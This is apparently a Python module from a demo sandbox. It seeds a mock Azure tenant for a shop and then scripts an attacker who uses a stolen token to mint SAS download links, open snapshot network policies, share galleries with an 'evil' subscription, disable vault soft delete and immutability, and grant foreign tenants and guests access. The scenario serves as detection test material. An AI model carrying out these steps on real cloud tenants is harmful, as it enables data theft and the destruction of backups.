"""The demo's Azure: a shop's two subscriptions on day one, and what the attacker does there."""

from snapbase.sandbox.azure import roles
from snapbase.sandbox.azure.activity import token
from snapbase.sandbox.azure.clients import Writer
from snapbase.sandbox.azure.server import MANAGEMENT_GROUP, SUBSCRIPTIONS, TENANT
from snapbase.sandbox.story import Act

__all__ = ["SUBSCRIPTIONS", "TENANT", "attack", "seed"]

_PLATFORM_TEAM = "0b5fe924-0000-4000-8000-00000000000a"
_AUDITORS = "0b5fe924-0000-4000-8000-00000000000b"
_BACKUP_APP = "0b5fe924-0000-4000-8000-00000000000c"
_DATA_TEAM = "0b5fe924-0000-4000-8000-00000000000d"
_STRANGER = "0b5fe924-0000-4000-8000-0000000000ee"
_EVIL_TENANT = "0e0e0e0e-0000-4000-8000-00000000000e"
_EVIL_SUBSCRIPTION = "0e0e0e0e-0000-4000-8000-0000000000ee"
_PRODUCTION, _ANALYTICS = SUBSCRIPTIONS
_SHOP, _BACKUP, _LAKE = "rg-shop", "rg-backup", "rg-lake"
_LEDGER, _VAULT, _ORDERS = "ledger-nightly", "payments-before-migration", "orders-golden"
_DISK, _MACHINE, _GALLERY, _PARTNER_GALLERY = "payments-data", "vm-payments", "shop_images", "partner_images"
_RECOVERY, _ARCHIVE, _ACCESS = "vault-shop", "vault-archive", "private-lake"
_BACKUP_VAULTS = "DataProtection/backupVaults"
_LINK = {"access": "Read", "durationInSeconds": 86400}


def seed(url: str) -> None:
    """Everything as it was when somebody looked at it and said that it is fine."""
    production = Writer(url, _PRODUCTION)
    _seed_production(production)
    _seed_machines(production)
    _seed_analytics(Writer(url, _ANALYTICS))


def attack(url: str) -> tuple[Act, ...]:
    """Links minted, networks opened, galleries shared, protections taken down, strangers let in; returns everything
    that was changed."""
    stolen = token(upn="t.lambert@shop.example", tid=TENANT, scp="user_impersonation", ipaddr="203.0.113.66")
    production, analytics = (Writer(url, each, stolen) for each in (_PRODUCTION, _ANALYTICS))
    return (
        *_take_snapshots(production),
        *_take_machines(production),
        *_share_galleries(production),
        *_weaken_vaults(production),
        *_let_strangers_in(analytics),
    )


def _take_snapshots(writer: Writer) -> tuple[Act, ...]:
    writer.snapshots.begin_grant_access(_SHOP, _LEDGER, _LINK).result()
    opened = {"properties": {"networkAccessPolicy": "AllowAll"}}
    writer.snapshots.begin_update(_BACKUP, _VAULT, opened).result()
    writer.snapshots.begin_delete(_SHOP, _ORDERS).result()
    writer.snapshot(_SHOP, _ORDERS, "orders-data")
    return (
        Act(f"minted a download link (SAS) for {_LEDGER}", "bearer-access", f"/snapshots/{_LEDGER}"),
        Act(f"opened the network policy of {_VAULT}", "network-exposure", f"/snapshots/{_VAULT}"),
        Act(f"deleted {_ORDERS} and made another of that name", "snapshot-replaced", f"/snapshots/{_ORDERS}"),
    )


def _take_machines(writer: Writer) -> tuple[Act, ...]:
    writer.compute.disks.begin_grant_access(_BACKUP, _DISK, _LINK).result()
    disk = f"/subscriptions/{_PRODUCTION}/resourceGroups/{_BACKUP}/providers/Microsoft.Compute/disks/{_DISK}"
    writer.image(_BACKUP, "payments-copy", disk)
    point = writer.restore_point(_BACKUP, _MACHINE, "one-more")
    collection = point.partition("/restorePoints/")[0]
    writer.assign(collection, roles.CONTRIBUTOR, _STRANGER, "User")
    return (
        Act(f"minted a download link (SAS) for disk {_DISK}", "bearer-access", f"/disks/{_DISK}"),
        Act(f"made an image of {_DISK}", "snapshot-appeared", "/images/payments-copy"),
        Act(f"took a restore point of {_MACHINE}", "snapshot-appeared", "/restorePoints/one-more"),
        Act(f"gave somebody the restore points of {_MACHINE}", "inherited-share", f"Collections/{_MACHINE}"),
    )


def _share_galleries(writer: Writer) -> tuple[Act, ...]:
    public = {"properties": {"sharingProfile": {"permissions": "Community"}}}
    writer.compute.galleries.begin_update(_SHOP, _GALLERY, public).result()
    profile = writer.compute.gallery_sharing_profile
    profile.begin_update(_SHOP, _GALLERY, {"operationType": "EnableCommunity"}).result()
    group = {"type": "Subscriptions", "ids": [_EVIL_SUBSCRIPTION]}
    profile.begin_update(_SHOP, _PARTNER_GALLERY, {"operationType": "Add", "groups": [group]}).result()
    return (
        Act(f"made gallery {_GALLERY} a community gallery", "public-share", f"/galleries/{_GALLERY}"),
        Act(f"shared gallery {_PARTNER_GALLERY} with a stranger", "inherited-share", f"/galleries/{_PARTNER_GALLERY}"),
    )


def _weaken_vaults(writer: Writer) -> tuple[Act, ...]:
    writer.vault(_BACKUP, _RECOVERY, securitySettings=_soft_delete("softDeleteState", "Disabled"))
    unlocked = {**_soft_delete("state", "On"), "immutabilitySettings": {"state": "Disabled"}}
    writer.vault(_BACKUP, _ARCHIVE, _BACKUP_VAULTS, securitySettings=unlocked)
    return (
        Act(f"switched soft delete off in {_RECOVERY}", "protection-weakened", f"/vaults/{_RECOVERY}"),
        Act(f"switched immutability off in {_ARCHIVE}", "protection-weakened", f"/backupVaults/{_ARCHIVE}"),
    )


def _let_strangers_in(writer: Writer) -> tuple[Act, ...]:
    subscription = f"/subscriptions/{_ANALYTICS}"
    lake = f"{subscription}/resourceGroups/{_LAKE}"
    delegation = writer.delegate(subscription, _EVIL_TENANT, roles.CONTRIBUTOR)
    writer.make_eligible(lake, roles.OWNER, _STRANGER)
    guest = writer.invite("eve@evil.example")
    writer.assign(lake, roles.DISK_SNAPSHOT_CONTRIBUTOR, guest, "User")
    writer.let_in(_LAKE, _ACCESS, _endpoint(_EVIL_SUBSCRIPTION, "theirs"))
    return (
        Act("delegated a subscription to another tenant (Lighthouse)", "inherited-share", delegation.lower()),
        Act(f"let somebody activate Owner of {_LAKE} (PIM)", "inherited-share", f"/{_LAKE}#eligible"),
        Act(f"invited a guest and gave them a role on {_LAKE}", "inherited-share", f"#guest:{guest}"),
        Act(f"gave a new user a role on {_LAKE}", "inherited-share", f"{lake.lower()} "),
        Act(f"let a stranger's private endpoint into {_ACCESS}", "inherited-share", f"/diskAccesses/{_ACCESS}"),
    )


def _seed_production(writer: Writer) -> None:
    subscription = f"/subscriptions/{_PRODUCTION}"
    shop, _ = writer.group(_SHOP), writer.group(_BACKUP)
    for day in ("mon", "tue", "wed"):
        writer.snapshot(_SHOP, f"orders-{day}", "orders-data", incremental=True)
    writer.snapshot(_SHOP, _ORDERS, "orders-data")
    writer.snapshot(_SHOP, _LEDGER, "ledger-data")
    keys = f"{shop}/providers/Microsoft.Compute/diskEncryptionSets/des-payments"
    writer.snapshot(
        _BACKUP,
        _VAULT,
        "payments-data",
        encryption={"type": "EncryptionAtRestWithCustomerKey", "diskEncryptionSetId": keys},
        networkAccessPolicy="DenyAll",
    )
    writer.assign(subscription, roles.OWNER, _PLATFORM_TEAM, "Group")
    writer.assign(f"{subscription}/resourceGroups/{_BACKUP}", roles.CONTRIBUTOR, _BACKUP_APP, "ServicePrincipal")
    management_group = f"/providers/Microsoft.Management/managementGroups/{MANAGEMENT_GROUP}"
    writer.assign(management_group, roles.READER, _AUDITORS, "Group")


def _seed_machines(writer: Writer) -> None:
    disk = writer.disk(_BACKUP, _DISK)
    writer.restore_point(_BACKUP, _MACHINE, "nightly")
    image = writer.image(_SHOP, "shop-base", disk)
    for gallery, sharing in ((_GALLERY, None), (_PARTNER_GALLERY, "Groups")):
        writer.gallery(_SHOP, gallery, sharing)
        writer.version(_SHOP, gallery, "base", "1.0.0", image)
    writer.vault(_BACKUP, _RECOVERY, securitySettings=_soft_delete("softDeleteState", "Enabled"))
    locked = {**_soft_delete("state", "On"), "immutabilitySettings": {"state": "Unlocked"}}
    writer.vault(_BACKUP, _ARCHIVE, _BACKUP_VAULTS, securitySettings=locked)


def _seed_analytics(writer: Writer) -> None:
    lake = writer.group(_LAKE)
    access = writer.let_in(_LAKE, _ACCESS, _endpoint(_ANALYTICS, "ours"))
    writer.snapshot(_LAKE, "lake-index", "lake-data", networkAccessPolicy="AllowPrivate", diskAccessId=access)
    writer.snapshot(_LAKE, "lake-scratch", "scratch-data")
    writer.assign(f"/subscriptions/{_ANALYTICS}", roles.DISK_SNAPSHOT_CONTRIBUTOR, _DATA_TEAM, "Group")
    writer.make_eligible(lake, roles.CONTRIBUTOR, _DATA_TEAM, "Group")


def _soft_delete(name: str, state: str) -> dict[str, dict[str, str]]:
    return {"softDeleteSettings": {name: state}}


def _endpoint(subscription: str, name: str) -> str:
    return f"/subscriptions/{subscription}/resourceGroups/net/providers/Microsoft.Network/privateEndpoints/{name}"
